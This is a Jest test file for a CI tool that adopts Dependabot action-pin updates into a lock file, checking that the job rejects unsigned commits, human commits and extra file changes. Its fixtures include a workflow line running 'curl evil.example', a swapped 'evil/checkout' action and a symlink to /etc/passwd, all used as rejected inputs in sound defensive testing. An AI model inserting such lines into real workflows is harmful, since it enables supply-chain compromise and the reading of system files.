import { spawnSync } from 'child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { jobOf } from '../../pipelines/support/written';
import { provenWith } from '../../support/proven-with';
import { Delivery } from 'slipway/delivery';
import { Secrets } from 'slipway/expressions';
import { AdoptPinUpdates, BranchPush } from 'slipway/pipelines';
import { Trigger, Workflow } from 'slipway/workflows';

const proven = provenWith(['jq', 'git'].find((name) => spawnSync(name, ['--version']).status !== 0), test);

const declared = (push: BranchPush) => {
  const delivery = Delivery.standalone();
  new AdoptPinUpdates(new Workflow(delivery, 'ci', { triggers: [Trigger.pullRequest()] }), 'pins', { push, slipway: 'slipway' });
  return delivery;
};
const TOKEN = declared(BranchPush.githubToken());
const APP = declared(BranchPush.app('Iv23', Secrets.get('KEY')));
const step = (part: string, name: string, delivery = TOKEN) => jobOf(delivery, `pins-${part}`).steps.find((one: any) => one.name === name);

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'adopt-'));
  for (const name of ['change/.github', 'bin']) mkdirSync(join(folder, name), { recursive: true });
  writeFileSync(join(folder, 'output'), '');
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const program = (name: string, script: string) => writeFileSync(join(folder, name), `#!/bin/bash\n${script}\n`, { mode: 0o755 });
const output = () => readFileSync(join(folder, 'output'), 'utf8');

function run({ run: script, env = {} }: { run: string; env?: Record<string, unknown> }, variables: Record<string, string> = {}) {
  const own = Object.fromEntries(Object.entries(env).map(([name, value]) => [name, String(value)]));
  const surroundings = { PATH: `${join(folder, 'bin')}:${process.env.PATH}`, HOME: folder, RUNNER_TEMP: folder, GITHUB_WORKSPACE: folder, GITHUB_OUTPUT: join(folder, 'output'), GITHUB_STEP_SUMMARY: join(folder, 'summary'), GITHUB_REPOSITORY: 'acme/app' };
  return spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], { encoding: 'utf8', cwd: join(folder, 'change'), env: { ...own, ...surroundings, ...variables } });
}

const BOT = 'dependabot[bot]';
const HEAD = 'a'.repeat(40);
const [OLD, NEW] = ['b'.repeat(40), 'c'.repeat(40)];
const commit = ({ sha = HEAD, login = BOT as string | null, committer = 'web-flow', verified = true } = {}) => ({ sha, author: login === null ? null : { login }, committer: { login: committer }, commit: { verification: { verified } } });
const patch = (...lines: string[]) => `@@ -10,7 +10,7 @@ jobs:\n     steps:\n${lines.join('\n')}\n         with:`;
const line = (sign: string, action = 'actions/checkout', sha = OLD, version = 'v6.0.0') => `${sign}        uses: ${action}@${sha} # ${version}`;
const PIN = patch(line('-'), line('+', undefined, NEW, 'v7.0.0'));
const file = (changed: object = {}) => ({ filename: '.github/workflows/ci.yml', status: 'modified', patch: PIN, ...changed });

/** The pins that `look` hands on. */
let told: string | undefined;

interface Asked { commits?: object[]; files?: object[]; count?: number; changed?: number; delivery?: Delivery }

/** What `look` says of a pull request; pages of a list come one behind the other. */
function looked({ commits = [commit()], files = [file()], count = commits.length, changed = files.length, delivery = TOKEN }: Asked = {}) {
  writeFileSync(join(folder, 'output'), '');
  writeFileSync(join(folder, 'commits'), commits.map((one) => JSON.stringify([one])).join('\n'));
  writeFileSync(join(folder, 'files'), files.length === 0 ? '[]' : files.map((one) => JSON.stringify([one])).join('\n'));
  program('bin/gh', `case "$*" in *pulls/7/commits*) cat "${join(folder, 'commits')}" ;; *pulls/7/files*) cat "${join(folder, 'files')}" ;; *) exit 1 ;; esac`);
  const { status, stdout, stderr } = run(step('look', 'Ask GitHub', delivery), { NUMBER: '7', HEAD, COMMITS: String(count), FILES: String(changed) });
  expect([status, stderr]).toEqual([0, '']);
  const said = Object.fromEntries(output().split('\n').map((one) => [one.split('=')[0], one.slice(one.indexOf('=') + 1)])) as Record<string, string | undefined>;
  told = said.changed;
  return { pins: said.pins === 'true', why: /::notice title=Nothing is adopted::(.*)\./.exec(stdout)?.[1] };
}

proven('X-13: a pull request in which the bot alone changes pins alone is adopted', () => {
  expect(looked()).toEqual({ pins: true, why: undefined });
  expect(JSON.parse(told!)).toEqual([{ action: 'actions/checkout', sha: NEW, version: 'v7.0.0' }]);
  const first = patch(`-      - uses: actions/cache/restore@${OLD} # v4.2.0`, `+      - uses: actions/cache/restore@${NEW} # v4.2.1`, line('-'), line('+', undefined, NEW, '7.0'));
  expect(looked({ commits: [commit({ sha: OLD }), commit({ committer: BOT })], files: [file(), file({ filename: '.github/actions/set-up/action.yml', patch: first })] })).toEqual({ pins: true, why: undefined });
  expect(JSON.parse(told!)).toEqual([{ action: 'actions/cache/restore', sha: NEW, version: 'v4.2.1' }, { action: 'actions/checkout', sha: NEW, version: '7.0' }, { action: 'actions/checkout', sha: NEW, version: 'v7.0.0' }]);
});

proven.each([
  ['a commit of a person', { commits: [commit({ sha: OLD, login: 'mallory' }), commit()] }, /not all of its commits/],
  ['a commit of nobody that GitHub knows', { commits: [commit({ login: null })] }, /not all of its commits/],
  ['a commit under the name of the bot that is not signed', { commits: [commit({ verified: false })] }, /not signed/],
  ['one that somebody else signed', { commits: [commit({ committer: 'mallory' })] }, /not signed/],
  ['commits that GitHub does not list', { count: 2 }, /does not list all/],
  ['a branch that has moved on', { commits: [commit({ sha: OLD })] }, /has changed meanwhile/],
  ['files that GitHub does not list', { changed: 301 }, /all of its files/],
  ['no file', { files: [] }, /all of its files/],
  ['another file', { files: [file(), file({ filename: 'package.json' })] }, /more than workflows/],
  ['the lock', { files: [file({ filename: '.github/slipway.lock.json' })] }, /more than workflows/],
  ['a file that looks like one', { files: [file({ filename: 'x/.github/workflows/ci.yml' })] }, /more than workflows/],
  ['a new file', { files: [file({ status: 'added' })] }, /more than pins/],
  ['a file that was moved', { files: [file({ status: 'renamed' })] }, /more than pins/],
  ['a change that GitHub does not show', { files: [file({ patch: undefined })] }, /more than pins/],
  ['another line', { files: [file({ patch: `${PIN}\n+        run: curl evil.example` })] }, /more than pins/],
  ['another action', { files: [file({ patch: patch(line('-'), line('+', 'evil/checkout', NEW)) })] }, /more than pins/],
  ['an action more', { files: [file({ patch: patch(line('-'), line('+', undefined, NEW), line('+', undefined, NEW)) })] }, /more than pins/],
  ['a tag instead of a commit', { files: [file({ patch: patch(line('-'), '+        uses: actions/checkout@v7 # v7.0.0') })] }, /more than pins/],
  ['a commit without its release', { files: [file({ patch: patch(line('-'), `+        uses: actions/checkout@${NEW}`) })] }, /more than pins/],
  ['a line that is moved in', { files: [file({ patch: patch(line('-'), line('+', undefined, NEW).replace('+  ', '+      ')) })] }, /more than pins/],
  ['more on the line', { files: [file({ patch: patch(line('-'), `${line('+', undefined, NEW)}, env: { A: b }`) })] }, /more than pins/],
])('X-13: %s: nothing is adopted', (_, given, why) => {
  expect(looked(given)).toEqual({ pins: false, why: expect.stringMatching(why) });
});

proven('X-13: a release of the action that gets the key of the app is taken over by a person', () => {
  const files = [file({ patch: patch(line('-', 'actions/create-github-app-token'), line('+', 'actions/create-github-app-token', NEW)) })];
  expect(looked({ files, delivery: APP })).toEqual({ pins: false, why: expect.stringContaining('by hand') });
  expect(looked({ files })).toMatchObject({ pins: true });
});

proven('what GitHub does not answer is a failure, and no yes', () => {
  program('bin/gh', 'exit 1');
  expect(run(step('look', 'Ask GitHub'), { NUMBER: '7', HEAD, COMMITS: '1', FILES: '1' }).status).not.toBe(0);
  expect(output()).toBe('');
});

const LOCK = `{\n  "actions/checkout": { "version": "v7.0.0", "sha": "${NEW}" }\n}\n`;
describe('the lock', () => {
  beforeEach(() => {
    spawnSync('git', ['-C', join(folder, 'change'), 'init', '--quiet']);
  });
  proven('X-13: is handed over when the command has changed it', () => {
    program('slipway', `[[ $* == 'update --adopt' ]]\nprintf '%s' '${LOCK}' > .github/slipway.lock.json`);
    expect(run(step('adopt', 'Adopt')).status).toBe(0);
    expect(Buffer.from(/^lock=(.*)\n$/.exec(output())![1], 'base64').toString()).toBe(LOCK);
  });
  proven('is not when nothing changed, when it is a link, or when the command fails', () => {
    program('slipway', 'true');
    expect([run(step('adopt', 'Adopt')).status, output()]).toEqual([0, '']);
    symlinkSync('/etc/passwd', join(folder, 'change/.github/slipway.lock.json'));
    expect([run(step('adopt', 'Adopt')).status, output()]).toEqual([0, '']);
    program('slipway', 'exit 1');
    expect([run(step('adopt', 'Adopt')).status, output()]).toEqual([1, '']);
  });
});

interface Before { readonly before?: string; readonly pins?: unknown; readonly answer?: string }
const PINS = [{ action: 'Actions/Checkout', sha: NEW, version: 'v7.0.0' }, { action: 'actions/cache/save', sha: NEW, version: 'v4.2.1' }];
/** `before`: the lock as GitHub has it; none, unless it answers something else. */
const pushed = (lock: string, { before, pins = PINS, answer = 'gh: Not Found (HTTP 404)' }: Before = {}) => {
  writeFileSync(join(folder, 'there'), before ?? '');
  program('bin/gh', `[[ $* == *'repos/acme/app/contents/.github/slipway.lock.json?ref=${HEAD}' ]] || exit 9\n${before === undefined ? `echo '${answer}' >&2; echo '{"message":"no"}'; exit 1` : `cat "${join(folder, 'there')}"`}`);
  rmSync(join(folder, 'body.json'), { force: true });
  return run(step('push', 'Look through it'), { LOCK: Buffer.from(lock).toString('base64'), PINS: JSON.stringify(pins), BRANCH: 'dependabot/x', HEAD });
};
const lockOf = (entries: Record<string, object>) => JSON.stringify(entries);
const CHECKOUT = { version: 'v7.0.0', sha: NEW };
const OTHER = { version: 'v1.0.0', sha: OLD, owner_id: 7, repo_id: 8 };

proven('X-13: only the lock file is committed, to the letter, on the commit that was looked at', () => {
  expect(pushed(LOCK).status).toBe(0);
  expect(JSON.parse(readFileSync(join(folder, 'body.json'), 'utf8')).variables.input).toEqual({
    branch: { repositoryNameWithOwner: 'acme/app', branchName: 'dependabot/x' },
    expectedHeadOid: HEAD,
    message: { headline: 'chore: adopt pins into the lock' },
    fileChanges: { additions: [{ path: '.github/slipway.lock.json', contents: Buffer.from(LOCK).toString('base64') }], deletions: [] },
  });
  expect(pushed(LOCK.replace(' }', ', "owner_id": 1, "repo_id": 2 }')).status).toBe(0);
});

proven.each([['nothing', ''], ['an empty one', '{}'], ['a list', '[]'], ['a tag', LOCK.replace(NEW, 'main')], ['something more', LOCK.replace(' }', ', "run": "x" }')], ['no action', LOCK.replace('actions/checkout', '../x')], ['a script', '#!/bin/sh'], ['two of them', `{}${LOCK}`]])('X-13: what is no lock is not pushed: %s', (_, lock) => {
  expect(pushed(lock)).toMatchObject({ status: 1, stdout: expect.stringContaining('no lock file') });
});

proven.each<[string, Record<string, object>, Record<string, object> | undefined]>([
  ['a new entry', { 'actions/checkout': CHECKOUT }, undefined],
  ['one beside others, which stay', { 'actions/checkout': { ...CHECKOUT, owner_id: 1, repo_id: 2 }, 'octo/lint': OTHER }, { 'actions/checkout': { version: 'v6.0.0', sha: OLD, owner_id: 1, repo_id: 2 }, 'Octo/Lint': OTHER }],
  ['an action in a folder, by its repository', { 'actions/cache': { version: 'v4.2.1', sha: NEW } }, {}],
  ['an action in a folder, by itself', { 'actions/cache/save': { version: 'v4.2.1', sha: NEW } }, {}],
])('X-13: what the bot changed is pushed: %s', (_, after, before) => {
  expect(pushed(lockOf(after), { before: before && lockOf(before) })).toMatchObject({ status: 0, stderr: '' });
});

proven.each<[string, Record<string, object>, string]>([
  ['another action', { 'actions/checkout': CHECKOUT, 'actions/setup-node': { version: 'v7.0.0', sha: NEW }, 'octo/lint': OTHER }, 'actions/setup-node'],
  ['another commit', { 'actions/checkout': { version: 'v7.0.0', sha: 'd'.repeat(40) }, 'octo/lint': OTHER }, 'actions/checkout'],
  ['another release', { 'actions/checkout': { version: 'v7.0.1', sha: NEW }, 'octo/lint': OTHER }, 'actions/checkout'],
  ['an entry that is no longer there', { 'actions/checkout': CHECKOUT }, 'octo/lint'],
  ['an entry that was not touched', { 'actions/checkout': CHECKOUT, 'octo/lint': { ...OTHER, sha: NEW } }, 'octo/lint'],
  ['the commit of another', { 'octo/lint': { ...OTHER, version: 'v7.0.0', sha: NEW } }, 'octo/lint'],
  ['whose it is', { 'octo/lint': { ...OTHER, owner_id: 9 } }, 'octo/lint'],
  ['whose it is, no longer', { 'octo/lint': { version: OTHER.version, sha: OTHER.sha, owner_id: 7 } }, 'octo/lint'],
])('X-13: what the bot did not change is not pushed, whatever the job before says: %s', (_, after, said) => {
  expect(pushed(lockOf(after), { before: lockOf({ 'octo/lint': OTHER }) })).toMatchObject({ status: 1, stdout: expect.stringContaining(`something else than what the bot changed, of: ${said}.`) });
});

proven('a lock that GitHub does not give, and pins that nobody told, are no yes', () => {
  expect(pushed(LOCK, { answer: 'gh: Bad Gateway (HTTP 502)' })).toMatchObject({ status: 1, stdout: expect.stringContaining('does not give the lock') });
  expect(pushed(LOCK, { before: 'no JSON' }).status).not.toBe(0);
  expect(pushed(LOCK, { pins: [] }).status).toBe(1);
  expect(pushed(LOCK, { pins: null }).status).not.toBe(0);
});
